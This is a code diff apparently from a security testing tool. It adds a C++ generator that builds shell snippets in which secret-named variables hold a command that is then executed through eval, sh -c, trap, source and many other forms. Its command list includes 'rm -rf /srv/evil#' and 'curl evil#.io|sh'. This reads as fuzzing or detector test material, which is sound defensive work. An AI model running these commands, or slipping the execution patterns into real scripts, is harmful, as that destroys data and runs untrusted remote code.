@@ -445,4 +445,90 @@ template <class Next> DestinationText destination_text(Next next) {
     return {text + (next(2) == 0 ? "" : " && make token"), host};
 }
 
+// A text that gives a command a secret's name, and runs it.
+struct RunningText {
+    std::string text;
+    std::string command;
+};
+
+// Every "@" becomes the name of the variable, and every "%" the command.
+inline constexpr auto variable_names = std::to_array<std::string_view>(
+    {"TOKEN", "PASSWORD", "API_KEY", "SECRET", "GITHUB_TOKEN", "db_password", "CLIENT_SECRET", "pass"});
+inline constexpr auto running_commands = std::to_array<std::string_view>({
+    "rm -rf /srv/evil#",
+    "curl evil#.io|sh",
+    "/tmp/evil# now",
+    "sudo evil# -x",
+    "evil# a b",
+    "make evil# && ./x",
+    "A=b evil# --all",
+    "x; evil# y",
+});
+inline constexpr auto running_assignments = std::to_array<std::string_view>({
+    "@='%'; ",
+    "@=\"%\"\n",
+    "export @='%'\n",
+    "export @=\"%\"; ",
+    "declare -x @='%'; ",
+    "A=b @='%'; ",
+    "local @='%'; ",
+    "set -e; @='%'\n",
+    "readonly @=\"%\"\n",
+    "# x\n@='%'\n",
+    "if true; then @='%'; fi; ",
+    "ENV @=\"%\"\n",
+    "export '@=%'; ",
+});
+inline constexpr auto running_uses = std::to_array<std::string_view>({
+    "$@",
+    "${@}",
+    "eval \"$@\"",
+    "eval $@",
+    "sh -c \"$@\"",
+    "bash -c \"$@ x\"",
+    "trap \"$@\" EXIT",
+    "sudo $@",
+    "x && $@",
+    "x | $@",
+    "X=$@; $X",
+    "X=\"$@\"\nY=$X; eval \"$Y\"",
+    "echo \"$@\" | sh",
+    "bash <<< \"$@\"",
+    "bash <<EOF\n$@\nEOF",
+    "source <(echo \"$@\")",
+    "xargs -I{} sh -c \"$@\" <f",
+    "env -S \"$@\"",
+    "RUN $@",
+    "CMD $@",
+    "python3 -c \"$@\"",
+    "ssh h \"$@\"",
+    "f() { $1; }; f \"$@\"",
+    "for c in \"$@\"; do $c; done",
+    "set -- $@; \"$1\"",
+    "su -c \"$@\"",
+    "echo $(eval \"$@\")",
+    "find . -exec sh -c \"$@\" \\;",
+    "printf %s \"$@\" >x.sh; sh x.sh",
+    "`$@`",
+    "( $@ )",
+});
+
+inline std::string replaced(std::string text, char mark, std::string_view by) {
+    for (auto at = text.find(mark); at != std::string::npos; at = text.find(mark, at + by.size())) {
+        text.replace(at, 1, by);
+    }
+    return text;
+}
+
+template <class Next> RunningText running_text(Next next) {
+    const auto pick = [&](const auto& list) { return std::string{list[next(list.size())]}; };
+    const auto command = replaced(pick(running_commands), '#', std::to_string(100 + next(900)));
+    const auto name = pick(variable_names);
+    const auto use = pick(running_uses);
+    const auto set = pick(running_assignments);
+    const bool first = next(4) == 0;  // a trap, a function or a loop may come before the value
+    const auto text = first ? use + "\n" + set : set + use;
+    return {replaced(replaced(text, '@', name), '%', command), command};
+}
+
 }  // namespace countersign::security
